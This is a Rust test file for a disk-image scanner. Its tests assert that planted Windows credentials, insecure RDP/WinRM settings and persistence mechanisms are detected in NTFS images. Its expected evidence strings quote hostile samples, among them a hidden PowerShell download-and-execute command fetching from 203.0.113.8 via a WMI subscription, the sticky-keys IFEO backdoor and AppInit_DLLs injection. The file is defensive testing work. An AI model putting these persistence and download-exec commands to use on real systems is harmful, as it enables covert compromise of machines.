//! Windows images end to end, beyond the NTFS reader (tests/it/ntfs.rs builds the disks): the
//! registry hives, written by `hivexsh` (testdata/ntfs/hives.sh) and copied into the volume
//! through `ntfs-3g`, judged by the windows-hives family; `hivexget` is the oracle for the
//! values read (the finding's fingerprint is the SHA-256 of the value hivex reads back).

use crate::common::{rule_paths, scan_json};
use crate::ntfs::{disk, secrets};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;

const SAM: &str = "/Windows/System32/config/SAM";
const SOFTWARE: &str = "/Windows/System32/config/SOFTWARE";
const SECURITY: &str = "/Windows/System32/config/SECURITY";
const NTUSER: &str = "/Users/Administrator/NTUSER.DAT";
const SYSTEM: &str = "/Windows/System32/config/SYSTEM";
const ALICE: &str = "/Users/alice/NTUSER.DAT";

fn fingerprint(v: &str) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(v.as_bytes())))
}

/// The rule of the machine's identity (computer name, SID), at info in every image.
const IDENTITY: &str = "windows-machine-identity";

/// The findings of the windows-hives family in `t` (the hives' credentials and remote access
/// settings, not the autoruns judged from the same hives nor the identity every image has):
/// (rule, path, severity, evidence, fingerprint).
pub(crate) fn hive_findings(t: &Value) -> Vec<(String, String, String, String, String)> {
    hive_findings_with(t, false)
}

fn hive_findings_with(t: &Value, identity: bool) -> Vec<(String, String, String, String, String)> {
    let mut v: Vec<_> = t["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            let p = f["path"].as_str().unwrap_or("");
            let autorun = f["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("windows-autorun") || HIJACKS.contains(&r));
            let ident = f["rule"] == IDENTITY;
            (p.starts_with("/Windows/System32/config/") || p.ends_with("NTUSER.DAT"))
                && !autorun
                && ident == identity
        })
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
            (
                s("rule"),
                s("path"),
                s("severity"),
                s("evidence"),
                s("fingerprint"),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn registry_hives_written_by_hivex_are_judged() {
    let dir = disk("hives", "leaky");
    let planted = secrets(&dir);
    let oracle: BTreeMap<String, String> = std::fs::read_to_string(dir.join("hives.env"))
        .unwrap()
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    assert_eq!(oracle["HIVEX_AUTOLOGON"], planted["AUTOLOGON"]);

    let img = dir.join("disk.img");
    let (code, t) = scan_json(&img, &[]);
    assert_eq!(code, 1, "{t:#}");
    assert_eq!(t["complete"], true, "{t:#}");
    let got = hive_findings(&t);
    let brief: Vec<(&str, &str, &str)> = got
        .iter()
        .map(|(r, p, s, _, _)| (r.as_str(), p.as_str(), s.as_str()))
        .collect();
    assert_eq!(
        brief,
        [
            ("windows-account-empty-password", SAM, "critical"),
            ("windows-account-password", SAM, "high"),
            ("windows-admin-password", SAM, "critical"),
            ("windows-autologon-password", SOFTWARE, "critical"),
            ("windows-lm-hash", SAM, "high"),
            ("windows-lsa-secret", SECURITY, "high"),
            ("windows-rdp-weak-auth", SYSTEM, "medium"),
            ("windows-rdp-weak-auth", SYSTEM, "medium"),
            ("windows-saved-session-password", NTUSER, "high"),
            ("windows-saved-session-password", NTUSER, "high"),
            ("windows-winrm-insecure", SOFTWARE, "high"),
        ],
        "{got:#?}"
    );
    let evidence = |rule: &str| {
        got.iter()
            .filter(|f| f.0 == rule)
            .map(|f| f.3.as_str())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        evidence("windows-admin-password"),
        ["Administrator (RID 500): enabled, NT hash stored (AES-encrypted)"]
    );
    assert_eq!(
        evidence("windows-lsa-secret"),
        [
            "LSA secret _SC_MSSQLSERVER (a service account's password), encrypted with the boot key of the SYSTEM hive"
        ]
    );
    // Remote access: the values hivexsh wrote (hivexget reads them back) and what they mean.
    assert_eq!(
        (
            oracle["HIVEX_NLA"].as_str(),
            oracle["HIVEX_WINRM_BASIC"].as_str()
        ),
        ("0", "1")
    );
    let tcp = r"ControlSet001\Control\Terminal Server\WinStations\RDP-Tcp";
    assert_eq!(
        evidence("windows-rdp-weak-auth"),
        [
            format!(
                "Network Level Authentication is off (UserAuthentication 0), in {tcp}; Remote Desktop is on"
            ),
            format!(
                "the RDP security layer, without TLS (SecurityLayer 0), in {tcp}; Remote Desktop is on"
            ),
        ]
    );
    let wsman = r"Microsoft\Windows\CurrentVersion\WSMAN\Service";
    assert_eq!(
        evidence("windows-winrm-insecure"),
        [format!(
            "WinRM service allows Basic authentication and unencrypted traffic (passwords in \
             clear on the wire): {wsman} auth_basic 1, {wsman} allow_unencrypted 1"
        )]
    );
    // The machine's identity, at info: the computer name and the SID hivex reads back (the
    // last three sub-authorities that end the account domain's V value).
    let v: Vec<u8> = oracle["HIVEX_ACCOUNT_V"]
        .split(',')
        .map(|b| u8::from_str_radix(b, 16).unwrap())
        .collect();
    let sub: Vec<u32> = v[v.len() - 12..]
        .chunks(4)
        .map(|c| u32::from_le_bytes(c.try_into().unwrap()))
        .collect();
    let sid = format!("S-1-5-21-{}-{}-{}", sub[0], sub[1], sub[2]);
    let identity: Vec<(String, String, String, String)> = hive_findings_with(&t, true)
        .into_iter()
        .map(|(r, p, s, e, _)| (r, p, s, e))
        .collect();
    let want_identity = [
        (SAM, format!("machine SID {sid}")),
        (
            SYSTEM,
            format!("computer name {}", oracle["HIVEX_COMPUTERNAME"]),
        ),
    ]
    .map(|(p, e)| (IDENTITY.to_string(), p.to_string(), "info".to_string(), e));
    assert_eq!(identity, want_identity);
    // The values read are the values hivex reads back (and those planted).
    let fp = |rule: &str| -> Vec<&str> {
        got.iter()
            .filter(|f| f.0 == rule)
            .map(|f| f.4.as_str())
            .collect()
    };
    assert_eq!(
        fp("windows-autologon-password"),
        [fingerprint(&oracle["HIVEX_AUTOLOGON"])]
    );
    let mut sessions = fp("windows-saved-session-password");
    sessions.sort();
    let mut want = vec![
        fingerprint(&planted["PUTTY"]),
        fingerprint(&planted["WINSCP"]),
    ];
    want.sort();
    assert_eq!(sessions, want);

    // Nothing planted is printed.
    let json = t.to_string();
    for k in ["AUTOLOGON", "PUTTY", "WINSCP"] {
        assert!(!json.contains(&planted[k]), "{k} printed");
    }

    // --quick reads the hives too.
    let (code, q) = scan_json(&img, &["--quick"]);
    assert_eq!(code, 1, "{q:#}");
    let quick: Vec<_> = hive_findings(&q).into_iter().map(|f| (f.0, f.1)).collect();
    let full: Vec<_> = got.iter().map(|f| (f.0.clone(), f.1.clone())).collect();
    assert_eq!(quick, full);
    assert_eq!(hive_findings_with(&q, true).len(), 2, "{q:#}");
    assert!(rule_paths(&q, "-").contains(&("windows-admin-password".to_string(), SAM.to_string())));
}

const GROUPS: &str = "/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/Groups/Groups.xml";

#[test]
fn what_windows_publishers_leave_behind_is_found() {
    let dir = disk("publishers", "leaky");
    let planted = secrets(&dir);
    let img = dir.join("disk.img");
    let want: Vec<(String, String, String)> = [
        (
            "ec2launch-static-admin-password",
            "/ProgramData/Amazon/EC2Launch/config/agent-config.yml",
            "EC2LAUNCH",
        ),
        (
            "ec2launch-admin-password",
            "/ProgramData/Amazon/EC2-Windows/Launch/Config/LaunchConfig.json",
            "EC2LAUNCH_V1",
        ),
        ("gpp-cpassword", GROUPS, "CPASSWORD"),
        (
            "windows-unattend-password",
            "/Program Files/Amazon/Ec2ConfigService/sysprep2008.xml",
            "SYSPREP2008",
        ),
    ]
    .into_iter()
    .map(|(r, p, k)| (r.to_string(), p.to_string(), fingerprint(&planted[k])))
    .collect();
    for args in [&[][..], &["--quick"][..]] {
        let (code, t) = scan_json(&img, args);
        assert_eq!(code, 1, "{args:?} {t:#}");
        assert_eq!(t["complete"], true, "{t:#}");
        let got: Vec<(String, String, String)> = t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
                (s("rule"), s("path"), s("fingerprint"))
            })
            .collect();
        for w in &want {
            assert!(got.contains(w), "{args:?}: missing {w:?}\n{got:#?}");
        }
        let crit: Vec<_> = t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "gpp-cpassword")
            .map(|f| (f["severity"].clone(), f["evidence"].to_string()))
            .collect();
        assert_eq!(crit.len(), 1, "{crit:?}");
        assert_eq!(crit[0].0, "critical");
        assert!(crit[0].1.contains("Administrator (built-in)"), "{crit:?}");
        // Severities as on Linux (issue 15): keys in a PowerShell history are critical, the
        // history alone medium, the OpenSSH server's host key high, a user's key critical.
        let history = "/Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";
        let severity = |rule: &str, path: &str| -> Vec<String> {
            t["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|f| f["rule"] == rule && f["path"] == path)
                .map(|f| f["severity"].as_str().unwrap().to_string())
                .collect()
        };
        assert_eq!(
            severity("aws-access-key-pair", history),
            ["critical"],
            "{args:?}"
        );
        assert_eq!(severity("shell-history", history), ["medium"], "{args:?}");
        assert_eq!(
            severity(
                "ssh-host-private-key",
                "/ProgramData/ssh/ssh_host_ed25519_key"
            ),
            ["high"],
            "{args:?}"
        );
        assert_eq!(
            severity("openssh-private-key", "/Users/alice/.ssh/id_ed25519"),
            ["critical"],
            "{args:?}"
        );
        let json = t.to_string();
        for k in [
            "EC2LAUNCH",
            "EC2LAUNCH_V1",
            "CPASSWORD",
            "GPPPW",
            "SYSPREP2008",
        ] {
            assert!(!json.contains(&planted[k]), "{k} printed");
        }
    }
}

/// The rules of the execution hijacks, the WMI subscriptions and the Startup shortcuts.
const HIJACKS: &[&str] = &[
    "windows-appinit-dlls",
    "windows-ifeo-hijack",
    "windows-startup-shortcut",
    "windows-unquoted-service-path",
    "windows-wmi-subscription",
];

/// (rule, path, severity, evidence) of the findings of `rules` in `t`, sorted.
fn findings_of(t: &Value, rules: &[&str]) -> Vec<(String, String, String, String)> {
    let mut v: Vec<_> = t["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| rules.contains(&f["rule"].as_str().unwrap_or("")))
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
            (s("rule"), s("path"), s("severity"), s("evidence"))
        })
        .collect();
    v.sort();
    v
}

const WMI: &str = "/Windows/System32/wbem/Repository/OBJECTS.DATA";
const ALICE_STARTUP: &str =
    "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";

/// The hijacks of the leaky disk in `dir` (scanned: `t`, and `--quick`: `q`) and of the clean
/// one (`c`): the hives' values are what hivexget reads back (hives.env), the shortcuts' targets
/// and arguments what lnkinfo reads back (lnk.env), the WMI repository is wmi-repository.py's.
fn assert_hijacks(dir: &std::path::Path, t: &Value, q: &Value, c: &Value) {
    let env = |file: &str| -> BTreeMap<String, String> {
        std::fs::read_to_string(dir.join(file))
            .unwrap()
            .lines()
            .filter_map(|l| l.split_once('='))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    };
    let hives = env("hives.env");
    let lnk = env("lnk.env");
    let got = findings_of(t, HIJACKS);
    let brief: Vec<(&str, &str, &str)> = got
        .iter()
        .map(|(r, p, s, _)| (r.as_str(), p.as_str(), s.as_str()))
        .collect();
    let sync = format!("{STARTUP}/Sync.lnk");
    let bginfo = format!("{STARTUP}/BGInfo.lnk");
    let helper = format!("{ALICE_STARTUP}/helper.lnk");
    let ec2launch = format!("{STARTUP}/EC2Launch.lnk");
    let updater = format!("{STARTUP}/Updater.lnk");
    assert_eq!(
        brief,
        [
            ("windows-appinit-dlls", SOFTWARE, "high"),
            ("windows-ifeo-hijack", SOFTWARE, "critical"),
            ("windows-ifeo-hijack", SOFTWARE, "high"),
            ("windows-startup-shortcut", bginfo.as_str(), "info"),
            ("windows-startup-shortcut", ec2launch.as_str(), "info"),
            ("windows-startup-shortcut", sync.as_str(), "high"),
            ("windows-startup-shortcut", updater.as_str(), "medium"),
            ("windows-startup-shortcut", helper.as_str(), "medium"),
            ("windows-unquoted-service-path", SYSTEM, "medium"),
            ("windows-wmi-subscription", WMI, "high"),
            ("windows-wmi-subscription", WMI, "high"),
        ],
        "{got:#?}"
    );
    let evidence = |rule: &str, path: &str| -> Vec<&str> {
        got.iter()
            .filter(|f| f.0 == rule && f.1 == path)
            .map(|f| f.3.as_str())
            .collect()
    };
    assert_eq!(
        evidence("windows-ifeo-hijack", SOFTWARE),
        [
            format!(
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe `Debugger`: sethc.exe is replaced by {}; an accessibility program the logon screen starts (the sticky-keys backdoor: a SYSTEM shell without logging on)",
                hives["HIVEX_IFEO_SETHC"]
            ),
            format!(
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe `MonitorProcess`: runs {} (a program in ProgramData, which users may write by default) whenever notepad.exe exits; monitoring on (GlobalFlag 0x200)",
                hives["HIVEX_MONITOR"]
            )
        ]
    );
    assert_eq!(
        evidence("windows-appinit-dlls", SOFTWARE),
        [format!(
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows `AppInit_DLLs`: {} injected into every process that loads user32.dll, loaded (LoadAppInit_DLLs 1)",
            hives["HIVEX_APPINIT"]
        )]
    );
    let image = &hives["HIVEX_BUILDAGENT_IMAGE"];
    let program = &image[..image.find(".exe").unwrap() + 4];
    assert_eq!(
        evidence("windows-unquoted-service-path", SYSTEM),
        [format!(
            "service `BuildAgent` ImagePath is unquoted with a space in its path: Windows tries C:\\Program.exe before {program}"
        )]
    );
    // The shortcuts: what lnkinfo reads is what is judged.
    assert_eq!(
        evidence("windows-startup-shortcut", &bginfo),
        [format!(
            "shortcut `BGInfo.lnk` in the all-users Startup folder runs \"{}\" {} at every logon",
            lnk["LNK_BGInfo_TARGET"], lnk["LNK_BGInfo_ARGS"]
        )]
    );
    assert_eq!(
        evidence("windows-startup-shortcut", &sync),
        [format!(
            "shortcut `Sync.lnk` in the all-users Startup folder runs {} {} at every logon: PowerShell runs downloaded code (Invoke-Expression of a download)",
            lnk["LNK_Sync_TARGET"], lnk["LNK_Sync_ARGS"]
        )]
    );
    assert_eq!(
        evidence("windows-startup-shortcut", &helper),
        [format!(
            "shortcut `helper.lnk` in the Startup folder of alice runs {} {} at every logon: its program is in AppData, which users may write by default",
            lnk["LNK_helper_TARGET"], lnk["LNK_helper_ARGS"]
        )]
    );
    // The shortcuts whose target is only in their shell items: the path they spell is what
    // lnkinfo reads from the same items (the volume name and the file entries' long names), and
    // no LinkInfo gives a local path. The others' shell items spell their local path.
    for (lnk_name, path) in [("EC2Launch", &ec2launch), ("Updater", &updater)] {
        let shell = &lnk[&format!("LNK_{lnk_name}_SHELL")];
        assert!(
            shell.starts_with("C:\\Program Files\\") || shell.starts_with("C:\\Users\\Public\\"),
            "{shell}"
        );
        assert_eq!(lnk[&format!("LNK_{lnk_name}_TARGET")], "", "{lnk:?}");
        let ev = evidence("windows-startup-shortcut", path);
        assert_eq!(ev.len(), 1, "{ev:?}");
        assert!(ev[0].contains(&format!(" runs \"{shell}\"")), "{ev:?}");
    }
    for name in ["BGInfo", "Sync", "helper"] {
        assert_eq!(
            lnk[&format!("LNK_{name}_SHELL")],
            lnk[&format!("LNK_{name}_TARGET")]
        );
    }
    assert_eq!(
        evidence("windows-startup-shortcut", &ec2launch),
        [format!(
            "shortcut `EC2Launch.lnk` in the all-users Startup folder runs \"{}\" at every logon",
            lnk["LNK_EC2Launch_SHELL"]
        )]
    );
    assert_eq!(
        evidence("windows-startup-shortcut", &updater),
        [format!(
            "shortcut `Updater.lnk` in the all-users Startup folder runs \"{}\" {} at every logon: its program is in a user profile, which users may write by default",
            lnk["LNK_Updater_SHELL"], lnk["LNK_Updater_ARGS"]
        )]
    );
    assert_eq!(
        evidence("windows-wmi-subscription", WMI),
        [
            "WMI subscription binds filter `Telemetry Filter` to ActiveScriptEventConsumer `Telemetry`, which runs VBScript: CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\svc.exe\", 0 as SYSTEM",
            "WMI subscription binds filter `WindowsUpdater Filter` to CommandLineEventConsumer `WindowsUpdater`, which runs powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')\" (PowerShell runs downloaded code (Invoke-Expression of a download)) as SYSTEM",
        ]
    );
    // --quick: the hives and the repository through the volume checks, the Startup folders
    // through the registry of file rules.
    assert_eq!(findings_of(q, HIJACKS), got);
    // The stock image (a mitigation-only IFEO key, AppInit_DLLs empty, a quoted service path
    // with spaces, the SCM subscription, a vendor's shortcut): the shortcut's inventory line.
    let clean: Vec<_> = findings_of(c, HIJACKS)
        .into_iter()
        .map(|f| (f.0, f.1, f.2))
        .collect();
    assert_eq!(
        clean,
        [
            (
                "windows-startup-shortcut".to_string(),
                bginfo.clone(),
                "info".to_string()
            ),
            (
                "windows-startup-shortcut".to_string(),
                ec2launch.clone(),
                "info".to_string()
            )
        ]
    );
    assert_eq!(
        findings_of(c, &["windows-startup-shortcut"])[1].3,
        evidence("windows-startup-shortcut", &ec2launch)[0]
    );
}

/// The rules of the Windows tamper checks (and the miner names they share with Linux).
const TAMPER: &[&str] = &[
    "miner-trace",
    "windows-autorun",
    "windows-autorun-download-exec",
    "windows-autorun-writable-path",
    "windows-startup-item",
    "windows-task-command",
    "windows-task-password",
    "windows-temp-executable",
];

/// (rule, path, severity, evidence) of the tamper findings of `t`, sorted.
fn tamper_findings(t: &Value) -> Vec<(String, String, String, String)> {
    findings_of(t, TAMPER)
}

const STARTUP: &str = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp";

#[test]
fn windows_persistence_is_found_and_a_stock_image_stays_quiet() {
    let dir = disk("tamper", "leaky");
    let oracle: BTreeMap<String, String> = std::fs::read_to_string(dir.join("hives.env"))
        .unwrap()
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let img = dir.join("disk.img");
    let (code, t) = scan_json(&img, &[]);
    assert_eq!(code, 1, "{t:#}");
    assert_eq!(t["complete"], true, "{t:#}");
    let got = tamper_findings(&t);
    let brief: Vec<(&str, &str, &str)> = got
        .iter()
        .map(|(r, p, s, _)| (r.as_str(), p.as_str(), s.as_str()))
        .collect();
    let update = format!("{STARTUP}/update.bat");
    assert_eq!(
        brief,
        [
            ("miner-trace", "/ProgramData/svc/xmrig.exe", "critical"),
            ("windows-autorun", SOFTWARE, "info"),
            ("windows-autorun-download-exec", SOFTWARE, "high"),
            ("windows-autorun-writable-path", ALICE, "medium"),
            ("windows-autorun-writable-path", SOFTWARE, "high"),
            ("windows-autorun-writable-path", SYSTEM, "high"),
            ("windows-startup-item", update.as_str(), "high"),
            (
                "windows-task-command",
                "/Windows/System32/Tasks/Updater",
                "high"
            ),
            (
                "windows-task-password",
                "/Windows/System32/Tasks/NightlyBuild",
                "high"
            ),
            (
                "windows-temp-executable",
                "/Windows/Temp/setup.exe",
                "medium"
            ),
        ],
        "{got:#?}"
    );
    let evidence = |rule: &str, path: &str| -> Vec<&str> {
        got.iter()
            .filter(|f| f.0 == rule && f.1 == path)
            .map(|f| f.3.as_str())
            .collect()
    };
    // The commands are the values hivex reads back.
    assert_eq!(
        evidence("windows-autorun-writable-path", SOFTWARE),
        [format!(
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run `Updater` runs a program in ProgramData, which users may write by default: {}",
            oracle["HIVEX_RUN_UPDATER"]
        )]
    );
    assert_eq!(
        evidence("windows-autorun-writable-path", SYSTEM),
        [format!(
            "service `AppUpdater` ImagePath runs a program in ProgramData, which users may write by default: {}",
            oracle["HIVEX_APPUPDATER_IMAGE"]
        )]
    );
    // The encoded command is named, not shown.
    let enc = evidence("windows-autorun-download-exec", SOFTWARE);
    assert!(
        enc[0].contains("RunOnce `Sync`: encoded PowerShell")
            && enc[0].ends_with("-EncodedCommand <136 chars>"),
        "{enc:?}"
    );
    assert_eq!(
        evidence(
            "windows-task-password",
            "/Windows/System32/Tasks/NightlyBuild"
        ),
        [
            "task \\NightlyBuild runs as EC2AMAZ-BUILD\\deploy with its password stored (LogonType Password)"
        ]
    );
    // The stock entries (SecurityHealth, W32Time and its ServiceDll, a driver, Defender under
    // ProgramData, the Defrag task, desktop.ini) give only the Run key's inventory line.
    assert_eq!(
        evidence("windows-autorun", SOFTWARE),
        [
            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run `SecurityHealth`: %windir%\\system32\\SecurityHealthSystray.exe"
        ]
    );

    // --quick reads the same places (the hives through the volume check, the Startup folders,
    // Tasks and Windows\Temp through the registry of file rules; the miner is not in a quick
    // place).
    let (code, q) = scan_json(&img, &["--quick"]);
    assert_eq!(code, 1, "{q:#}");
    let quick = tamper_findings(&q);
    let full: Vec<_> = got
        .iter()
        .filter(|f| f.1 != "/ProgramData/svc/xmrig.exe")
        .cloned()
        .collect();
    let quick: Vec<_> = quick
        .into_iter()
        .filter(|f| f.1 != "/ProgramData/svc/xmrig.exe")
        .collect();
    assert_eq!(quick, full);

    // The stock image: the inventory line only, nothing at medium or above.
    let clean = disk("tamper-clean", "clean");
    let (code, c) = scan_json(&clean.join("disk.img"), &[]);
    assert_eq!(code, 0, "{c:#}");
    // The hijacks, the WMI subscriptions and the Startup shortcuts, on the same disks.
    assert_hijacks(&dir, &t, &q, &c);
    let got: Vec<_> = tamper_findings(&c)
        .into_iter()
        .map(|f| (f.0, f.1, f.2))
        .collect();
    assert_eq!(
        got,
        [(
            "windows-autorun".to_string(),
            SOFTWARE.to_string(),
            "info".to_string()
        )]
    );
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&clean);
}

/// `--unallocated` on NTFS: the clusters `$Bitmap` marks free (as many bytes as `ntfscluster`
/// counts) hold a secret of a file ntfs-3g deleted; the full scan does not see it, the
/// `--unallocated` scan does, without a path; `$LogFile` is the journal.
#[test]
fn ntfs_free_space_is_what_the_bitmap_says_and_keeps_a_deleted_secret() {
    use amiscan::fs::ext4_free::RegionKind;
    let dir = disk("unallocated", "clean");
    let akid = format!("AKIA{}", random_upper(16));
    let secret = random_alnum(40);
    // A non-resident file (larger than an MFT record) with a key pair, written and deleted
    // through ntfs-3g; then what ntfs-3g counts as free.
    let free = crate::common::sh(
        &format!(
            "set -e
             L=$(losetup -f --show -o $((2048*512)) disk.img)
             trap 'mountpoint -q m && umount m; losetup -d $L' EXIT
             mount -t ntfs-3g $L m
             {{ head -c 6000 /dev/zero | tr '\\0' 'x'; printf '\\naws_access_key_id = {akid}\\naws_secret_access_key = {secret}\\n'; }} > m/Users/alice/Documents/keys.txt
             sync; rm m/Users/alice/Documents/keys.txt; umount m
             ntfscluster -i $L | grep -E '^bytes (per volume|of free space)' | cut -d: -f2"
        ),
        &dir,
    );
    let (volume, free) = match free
        .split_whitespace()
        .map(|n| n.parse::<u64>().expect("ntfscluster prints byte counts"))
        .collect::<Vec<_>>()[..]
    {
        [volume, free] => (volume, free),
        ref other => panic!("ntfscluster: {other:?}"),
    };
    let regions = amiscan::fs::ntfs_free::free_regions(&crate::ntfs::partition(&dir)).unwrap();
    let (log, rest): (Vec<&amiscan::fs::ext4_free::Region>, Vec<_>) =
        regions.iter().partition(|r| r.kind == RegionKind::Journal);
    let len = crate::ntfs::partition(&dir).len();
    // The free clusters, and the partition's tail past the volume (the backup boot sector).
    let tail = rest.last().unwrap();
    assert_eq!(
        (tail.offset, tail.offset + tail.len),
        (volume, len),
        "{regions:?}"
    );
    let counted: u64 = rest.iter().map(|r| r.len).sum::<u64>() - tail.len;
    assert_eq!(counted, free, "{regions:?}");
    assert_eq!(log.iter().map(|r| r.len).sum::<u64>(), 2 << 20, "{log:?}");

    let img = dir.join("disk.img");
    let hits = |t: &Value| -> Vec<Value> {
        t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "aws-access-key-pair")
            .cloned()
            .collect()
    };
    let (code, t) = scan_json(&img, &[]);
    assert_eq!(code, 0, "{t:#}");
    assert!(hits(&t).is_empty(), "{t:#}");
    let (_, u) = scan_json(&img, &["--unallocated"]);
    assert_eq!(u["complete"], true, "{u:#}");
    let found = hits(&u);
    assert_eq!(found.len(), 1, "{u:#}");
    assert!(found[0]["path"].is_null(), "{found:#?}");
    assert!(
        found[0]["evidence"]
            .as_str()
            .unwrap()
            .starts_with("[unallocated] "),
        "{found:#?}"
    );
    assert!(!u.to_string().contains(&secret));
    let _ = std::fs::remove_dir_all(&dir);
}

fn random_from(set: &[u8], n: usize) -> String {
    let mut b = vec![0u8; n];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut b))
        .unwrap();
    b.iter()
        .map(|x| set[*x as usize % set.len()] as char)
        .collect()
}

fn random_upper(n: usize) -> String {
    random_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", n)
}

fn random_alnum(n: usize) -> String {
    random_from(
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
        n,
    )
}
